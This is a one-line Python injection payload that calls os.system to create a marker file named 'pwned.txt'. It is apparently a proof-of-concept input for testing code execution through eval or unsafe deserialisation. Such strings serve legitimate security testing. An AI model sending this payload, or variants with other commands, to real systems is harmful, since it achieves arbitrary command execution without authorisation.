__import__('os').system('touch pwned.txt')
